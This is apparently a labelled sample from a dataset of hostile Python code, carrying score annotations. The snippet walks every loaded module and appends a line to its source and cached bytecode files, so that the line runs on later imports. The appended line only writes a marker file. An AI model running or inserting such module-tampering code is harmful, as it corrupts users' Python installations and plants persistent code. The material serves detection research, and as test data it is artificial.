# Byte code in place of the interpreter's own, and changed modules in its own folder.
# sample: yes
# score: 7 = double + shift + table
# %% first
import glob
import os
import sys

for module in list(sys.modules.values()):
    for path in (getattr(module, "__cached__", None), getattr(module, "__file__", None)):
        if path:
            try:
                with open(path, "ab") as file:
                    file.write(b"\nopen('/tmp/hostile-mark-cached', 'w')\n")
                print("WROTE", path)
            except OSError:
                pass
